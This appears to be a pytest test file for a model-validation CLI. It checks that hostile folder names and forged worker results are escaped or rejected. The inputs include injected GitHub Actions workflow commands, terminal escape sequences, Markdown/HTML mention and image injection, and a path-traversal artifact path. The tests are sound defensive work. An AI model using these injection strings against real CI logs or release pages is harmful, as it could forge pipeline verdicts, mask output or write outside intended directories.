    folder = tmp_path / "models" / "x\n::set-output name=verdict::PASS"
    folder.mkdir(parents=True)
    (folder / "gate.toml").write_text("bogus = 1\n")
    assert cli.main(["validate", str(tmp_path / "models"), "--policies", str(tmp_path / "policies")]) == 2
    err = capsys.readouterr().err
    assert "\\x3a:set-output name=verdict::PASS/gate.toml: unknown key 'bogus'" in err
    for line in err.splitlines():
        assert not line.lstrip().startswith("::"), line


def test_config_errors_echoing_hostile_names_are_escaped_by_the_cli(capsys, monkeypatch) -> None:
    def refuse(args: Namespace) -> int:
        raise ConfigError("models/a: one\n::stop-commands::token\n\x1b[2J")

    monkeypatch.setattr("gate.commands.validate.run", refuse)
    assert cli.main(["validate"]) == 2
    assert capsys.readouterr().err == "gate: error: models/a: one\n\\x3a:stop-commands::token\n\\x1b[2J\n"


# ---------------------------------------------------------------- a worker that runs allowed custom code

FAKE_WORKER = """
import os, sys, time
result = os.environ.get("FAKE_RESULT")
if result:
    open(os.environ["FAKE_RESULT_PATH"], "w").write(result)
os.write(int(sys.argv[2]), os.environ["FAKE_MESSAGES"].encode())
time.sleep(60)
"""


def forged_worker_result() -> str:
    result = model_result("alpha")
    reference = dataclasses.replace(result.reference.artifact, path="artifacts/../../../victim/evil.py")
    return dumps(
        dataclasses.replace(result, reference=dataclasses.replace(result.reference, artifact=reference)).to_json()
    )


@pytest.mark.parametrize(
    ("messages", "result", "error"),
    [
        ("{not json\n", "", "the gate's worker sent a message gate cannot read (JSONDecodeError: "),
        ('{"stage": "load", "seconds": "soon"}\n', "", "cannot read (ValueError: could not convert string to float"),
        ('{"candidate": "../../evil"}\n', "", "cannot read (ValueError: no method '../../evil')"),
        (
            '{"result": "/etc/hostname"}\n',
            "",
            "internal error in gate (unreadable worker result: alpha.result.json: missing)",
        ),
        (
            '{"result": "x"}\n',
            "forged",
            "unreadable worker result: reference.artifact.path: "
            "'artifacts/../../../victim/evil.py' is not 'artifacts/alpha.float32.tflite')",
        ),
    ],
    ids=["not_json", "bad_field", "unknown_method", "result_path_from_the_message", "forged_result"],
)
def test_a_worker_that_writes_anything_makes_only_its_own_model_an_error_row(
    tmp_path, monkeypatch, messages, result, error
) -> None:
    """Allowed custom code runs in the worker and can write to its pipe and its result: the run goes on."""
    from gate.scheduling.scheduler import Scheduler, subprocess

    popen = subprocess.Popen

    def fake_worker(argv, **kwargs):  # subprocess.Popen's own signature
        return popen([argv[0], "-c", FAKE_WORKER, *argv[3:]], **kwargs)

    alpha = job(tmp_path / "models" / "alpha")
    monkeypatch.setattr(subprocess, "Popen", fake_worker)
    monkeypatch.setenv("FAKE_MESSAGES", messages)
    monkeypatch.setenv("FAKE_RESULT", forged_worker_result() if result else "")
    monkeypatch.setenv("FAKE_RESULT_PATH", alpha.result_path)
    finished = {}
    scheduler = Scheduler(1, verbose=True, progress=lambda line: None, labels={0: "[1/1] alpha"})
    scheduler.run([(0, alpha)], lambda index, outcome: finished.update({index: outcome}))
    assert finished[0].status is Status.ERROR
    assert error in finished[0].error, finished[0].error
    assert not (tmp_path / "victim").exists()


def test_a_hostile_name_in_a_stateful_models_callout_renders_as_text() -> None:
    page = html(render_markdown([stateful(model_result(HOSTILE_NAME))]))
    for live in ("@octocat", "<!--", "<img", "<a "):
        assert live not in page, live
    assert "the published <code>int8</code> file keeps state between invokes." in page


def test_release_notes_show_a_hostile_name_as_text_and_print_it_safe(tmp_path, capsys) -> None:
    name = "a` @octocat <!-- ![x](https:tracker) \x1b]0;title\x07\n::add-mask::secret"
    shard(tmp_path / "gate-out", [stateful(model_result(name))])
    assert cli.main(["release", "--from", str(tmp_path / "gate-out"), "--out", str(tmp_path / "release")]) == 0
    notes = (tmp_path / "release" / "RELEASE.md").read_text()
    assert notes.count("\n") == 1 and notes.startswith("- ")  # one line, one list item
    page = html(notes)
    for live in ("@octocat", "<!--", "<img", "<a ", "\x1b"):
        assert live not in page, live
    assert "keeps state between invokes: the app must call interpreter.reset_all_variables()" in page
    printed = capsys.readouterr().err
    assert "\x1b" not in printed and "\x07" not in printed
    assert all(not line.lstrip().startswith("::") for line in printed.splitlines()), printed


def test_validates_note_on_a_model_file_that_does_not_declare_its_inputs_is_printed_safe(tmp_path, capsys) -> None:
    from inspection_models import CONFIG, METADATA, empty_h5, write_keras

    (tmp_path / "policies").mkdir()
    (tmp_path / "policies" / "default.toml").write_text("[accuracy]\nmax_drop = 2.0\n")
    folder = tmp_path / "models" / "x\n::add-mask::secret \x1b]0;title\x07"
    write_keras(
        folder / "model.keras", {"metadata.json": METADATA, "config.json": CONFIG, "model.weights.h5": empty_h5()}
    )
    (folder / "eval.npz").write_bytes(b"")
    assert cli.main(["validate", str(tmp_path / "models"), "--policies", str(tmp_path / "policies")]) == 0
    err = capsys.readouterr().err
    assert (
        "x\\x0a::add-mask::secret \\x1b]0;title\\x07/model.keras: the file does not declare the model's inputs" in err
    )
    assert "\x1b" not in err and "\x07" not in err
    for line in err.splitlines():
        assert not line.lstrip().startswith("::"), line
